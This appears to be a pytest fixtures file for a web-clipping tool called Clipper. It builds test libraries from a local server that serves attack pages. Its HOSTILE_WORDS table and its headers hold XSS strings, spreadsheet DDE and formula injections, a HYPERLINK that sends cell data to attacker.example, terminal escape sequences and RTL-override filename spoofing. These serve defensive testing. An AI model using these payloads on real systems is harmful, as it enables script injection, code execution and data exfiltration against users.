"""Clipper as a person runs it: real processes, a real library, a fresh home."""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import cycle
from pathlib import Path
from threading import Event, Thread
from time import monotonic
from typing import Any

import pytest

from clipper.desk.clipped import Order
from clipper.desk.desk import Desk
from clipper.desk.pools import as_done
from clipper.desk.settings import Settings

SECONDS = 120


@dataclass
class Clipper:
    """The command line on one library."""

    folder: Path
    environment: dict[str, str]

    def __call__(self, *words: str | int, text: str = "", code: int = 0) -> str:
        """Run a command that ends with `code`, and return its standard output."""
        ran = self.run(*words, text=text)
        assert ran.returncode == code, f"{ran.returncode}: {ran.stdout}{ran.stderr}"
        assert "Traceback" not in ran.stderr
        return ran.stdout

    def run(self, *words: str | int, text: str = "") -> subprocess.CompletedProcess[str]:
        """Run a command, whatever comes of it."""
        return subprocess.run(
            self.command(*words),
            input=text,
            capture_output=True,
            text=True,
            env=self.environment,
            timeout=SECONDS,
            check=False,
        )

    def start(self, *words: str | int) -> subprocess.Popen[str]:
        """Start a command and leave it running."""
        return subprocess.Popen(
            self.command(*words),
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
            env=self.environment,
        )

    def json(self, *words: str | int, code: int = 0) -> Any:
        """Run a command with --json, and return what it printed."""
        return json.loads(self(*words, "--json", code=code))

    def lines(self, *words: str | int, code: int = 0) -> list[dict[str, Any]]:
        """Run a command with --json that prints a line each, and return the lines."""
        printed = self(*words, "--json", code=code)
        return [json.loads(line) for line in printed.splitlines()]

    def command(self, *words: str | int) -> list[str]:
        """Return the whole command line."""
        return [sys.executable, "-m", "clipper", "--library", str(self.folder), *map(str, words)]


@pytest.fixture
def clipper(tmp_path: Path) -> Clipper:
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    environment = {
        **{name: value for name, value in os.environ.items() if not name.startswith("XDG_")},
        "HOME": str(home),
        "PYTHONWARNINGS": "default",
    }
    return Clipper(tmp_path / "flow.clipper", environment)


@pytest.fixture
def wait_until() -> Callable[[Callable[[], bool]], None]:
    def wait(is_so: Callable[[], bool]) -> None:
        """Ask again until something is so; a flow that waits longer than a minute is broken."""
        end = monotonic() + 60
        while not is_so():
            assert monotonic() < end, "it never came to be"
            Event().wait(0.02)

    return wait


_KEYRING = """
printf word | gnome-keyring-daemon --unlock --components=secrets >/dev/null 2>&1
echo "$DBUS_SESSION_BUS_ADDRESS"
exec cat
"""


@pytest.fixture
def give_keys(qtbot: Any) -> Callable[[Any], None]:
    """Wait until a window has the keys, and go on asking for them: another may still be closing."""

    def has_them(window: Any) -> bool:
        window.activateWindow()
        return bool(window.isActiveWindow())

    return lambda window: qtbot.waitUntil(lambda: has_them(window), timeout=30_000)


@pytest.fixture
def no_keyring(clipper: Clipper) -> Clipper:
    """The command line on a system without any keyring."""
    for name in ("DBUS_SESSION_BUS_ADDRESS", "XDG_RUNTIME_DIR", "PYTHON_KEYRING_BACKEND"):
        clipper.environment.pop(name, None)
    clipper.environment["DBUS_SESSION_BUS_ADDRESS"] = "disabled:"
    return clipper


@pytest.fixture
def keyring(clipper: Clipper, tmp_path: Path) -> Iterator[Clipper]:
    """The command line beside a real Secret Service: GNOME Keyring on a bus of its own."""
    programs = {one: shutil.which(one) for one in ("dbus-run-session", "gnome-keyring-daemon")}
    missing = [one for one, path in programs.items() if not path]
    if missing:
        pytest.skip(f"not installed: {', '.join(missing)}")
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    environment = {**clipper.environment, "XDG_RUNTIME_DIR": str(runtime)}
    for name in ("DISPLAY", "WAYLAND_DISPLAY", "PYTHON_KEYRING_BACKEND"):
        environment.pop(name, None)  # a locked keyring must not ask a person
    with subprocess.Popen(
        [str(programs["dbus-run-session"]), "--", "/bin/sh", "-c", _KEYRING],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env=environment,
    ) as session:
        assert session.stdin is not None and session.stdout is not None
        clipper.environment = environment
        clipper.environment["DBUS_SESSION_BUS_ADDRESS"] = session.stdout.readline().strip()
        yield clipper
        session.stdin.close()


HOSTILE_WORDS = {
    "markup": "\"'><img src=x onerror=alert(1)></title></script><script>alert(1)</script>",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "formula": "=cmd|' /C calc'!A0",
    "plus": '+HYPERLINK("http://attacker.example/?x=",A1)',
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1\r\n=2+2",
    "terminal": "Red \x1b[31m\x9b2J\x1b]0;me\x07\x00\x7f safe\u202egpj.exe\u200b\u2066\ufeff",
    "markdown": "[a](javascript:alert(1)) ![p](http://tracker.example/p.png) <b onclick=alert(1)>",
}  # fmt: skip
"""What a page, a file or a person may call a thing, by what it attacks."""

_FIELDS = {"deployment": "actor", "sanction": "target", "place": "entity"}
_QUOTE = "soldiers had reached the border near Kursk"
_HOSTILE = Path(__file__).parent / "hostile"


@dataclass
class Hostile:
    """A library full of attacks: its folder, and the bodies that a site sent, by path."""

    folder: Path
    sent: dict[str, bytes] = field(default_factory=dict)
    headers: dict[str, dict[str, str]] = field(default_factory=dict)


def _page(words: str, vector: str = "", number: str = "around 10,000") -> bytes:
    """Return a page that carries words wherever a page can, and an attack in its body."""
    page = (_HOSTILE / "page.html").read_text("utf-8")
    page = page.replace("{{words}}", escape(words)).replace("{{number}}", number)
    return page.replace("{{json}}", json.dumps(words)).replace("{{vector}}", vector).encode()


@contextmanager
def _serving(hostile: Hostile) -> Iterator[str]:
    class Answering(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = hostile.sent.get(self.path)
            self.send_response(404 if body is None else 200 if body else 302)
            for name, value in hostile.headers.get(self.path, {}).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body or b"no")

        def log_message(self, *_: object) -> None:
            """Keep quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answering)
    serving = Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    serving.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    serving.join()


def _fill(desk: Desk, hostile: Hostile, site: str, beside: Path) -> None:
    """Clip hostile pages, and say hostile things of them."""
    words = tuple(HOSTILE_WORDS.values())
    vectors = (_HOSTILE / "vectors.txt").read_text("utf-8").splitlines()
    hostile.sent |= {f"/{name}": _page(said) for name, said in HOSTILE_WORDS.items()}
    hostile.sent |= {f"/{n}": _page(f"Page {n}", one) for n, one in enumerate(vectors)}
    hostile.sent |= {"/coding": b"x", "/away": b""}
    hostile.headers |= {
        "/coding": {"Content-Encoding": "<img/src=x/onerror=alert(1)>"},
        "/away": {"Location": "javascript:<img/src=x/onerror=alert(1)>"},
    }
    order = Order(tuple(site + path for path in (*hostile.sent, "/%3Cimg%20src=x%3E")), words)
    numbers = {one.url: one.id for one in as_done(desk.clipping.clip(order).result())}
    hostile.sent["/markup"] = _page(words[0], "", "around 12,000")
    list(as_done(desk.clipping.clip(Order((f"{site}/markup",), again=True)).result()))
    saved = beside / "\"'><img src=x onerror=alert(1)>\u202egpj.&lt;b&gt;\x1b[31m.html"
    saved.write_bytes(_page(words[0]))
    given = Order(("https://good.example/\"onmouseenter='alert(1)'",), words)
    list(as_done(desk.clipping.clip_file(saved, given).result()))
    for (name, said), kind in zip(HOSTILE_WORDS.items(), cycle(_FIELDS), strict=False):
        number = numbers[f"{site}/{name}"]
        desk.organising.set_case([number], said).result()
        desk.organising.set_note(number, said).result()
        fields = [(_FIELDS[kind], said)]
        desk.annotating.add_quote(
            number, kind, [_QUOTE], fields=fields, note=said, tags=words
        ).result()
    desk.organising.retag([number], ["<img src=file:///tmp/x.png>\u202ex"], ()).result()
    title = escape(escape(words[0]))
    hostile.sent["/feed"] = f"<rss><channel><title>{title}</title><item/></channel></rss>".encode()
    desk.following.add(f"{site}/feed", words[0]).result()


@pytest.fixture(scope="session")
def hostile_library(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    """A library filled once with all that a page, a file and a person can say against it."""
    beside = tmp_path_factory.mktemp("hostile")
    hostile = Hostile(beside / "hostile.clipper")
    with pytest.MonkeyPatch.context() as patch, _serving(hostile) as site:
        patch.setenv("HOME", str(beside))
        for name in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME"):
            patch.delenv(name, raising=False)
        with Desk(hostile.folder, Settings()) as desk:
            _fill(desk, hostile, site, beside)
    return hostile


@pytest.fixture
def hostile(hostile_library: Hostile, clipper: Clipper) -> Hostile:
    """The hostile library, of which each test has a copy, where the command line finds it."""
    shutil.copytree(hostile_library.folder, clipper.folder)
    return replace(hostile_library, folder=clipper.folder)
